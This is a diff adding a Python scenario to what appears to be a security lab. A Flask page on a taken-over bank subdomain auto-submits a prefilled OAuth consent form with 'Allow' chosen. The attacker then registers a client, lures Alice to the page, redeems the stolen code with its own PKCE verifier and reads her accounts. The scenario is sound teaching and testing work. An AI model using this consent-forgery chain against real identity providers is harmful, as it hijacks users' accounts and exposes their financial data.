@@ -1,0 +1,63 @@
+"""A forgotten page beside the bank presses “Allow” for Alice."""
+
+from urllib.parse import parse_qsl, urlencode, urlsplit
+
+from flask import Flask, Response, render_template_string, request
+
+from labs.chromium import BrowserStage
+from labs.stage import Stage, Stuck
+from labs.steps import step
+
+FORM = """<!doctype html><html lang="en"><title>Spring sale</title><h1>Spring sale</h1><p>One moment …</p>
+<form method="post" action="{{ action }}">
+{% for name, value in fields %}<input type="hidden" name="{{ name }}" value="{{ value }}">
+{% endfor %}</form><script>document.forms[0].submit();</script></html>"""
+sale = Flask(__name__)
+HOSTS = {"shop.auth": sale}  # a subdomain of the bank's that somebody gave up, and somebody else took
+
+
+@sale.get("/")
+def sends_itself() -> Response:
+    """Send the consent form of the request that stands in the address, with “Allow” pressed."""
+    action = f"{request.environ['labs.world'].here.auth}/consent"
+    page = Response(render_template_string(FORM, action=action, fields=list(request.args.items())))
+    page.headers["Content-Security-Policy"] = "default-src 'none'; script-src 'unsafe-inline'"
+    return page
+
+
+@step("Alice", by_hand="{auth}/")
+def alice_signs_in(stage: BrowserStage) -> None:
+    """Sign in at Bank ID as alice, to see which apps have access."""
+    stage.alice.go(f"{stage.here.auth}/").sign_in()
+
+
+@step("attacker")
+def makes_a_link(stage: Stage) -> None:
+    """Register an app, and make a link to a page with a consent form for it, all filled in."""
+    redirect_uri = f"{stage.here.attacker}/collect"
+    metadata = {"client_name": "Recipes", "redirect_uris": [redirect_uri], "token_endpoint_auth_method": "none"}
+    answer = stage.attacker.ask("POST", f"{stage.here.auth}/register", json=metadata | {"scope": "balance:read"})
+    if answer.status_code != 201:
+        raise Stuck("Bank ID registers no app")
+    stage.kept["client_id"] = answer.json()["client_id"]
+    asked = dict(parse_qsl(urlsplit(stage.link(stage.kept["client_id"], redirect_uri)).query))
+    form = asked | {"requested_scope": asked["scope"], "decision": "allow"}
+    stage.onward = f"{stage.here.origin('shop.auth')}/?{urlencode(form)}"
+
+
+@step("Alice")
+def alice_opens_the_page(stage: BrowserStage) -> None:
+    """Open the link, and touch nothing."""
+    stage.alice.go(stage.onward).rest()
+    stage.onward = ""
+
+
+@step("attacker")
+def spends_the_code(stage: Stage) -> None:
+    """Redeem the code that came, with the attacker's own verifier, and ask the bank."""
+    code = stage.collection.newest("code")
+    if not code:
+        raise Stuck("no code came to the app")
+    form = {"redirect_uri": f"{stage.here.attacker}/collect", "code_verifier": stage.kept["verifier"]}
+    token = stage.attacker.redeem(code, client_id=stage.kept["client_id"], **form)
+    stage.attacker.bank("GET", "/accounts", token)
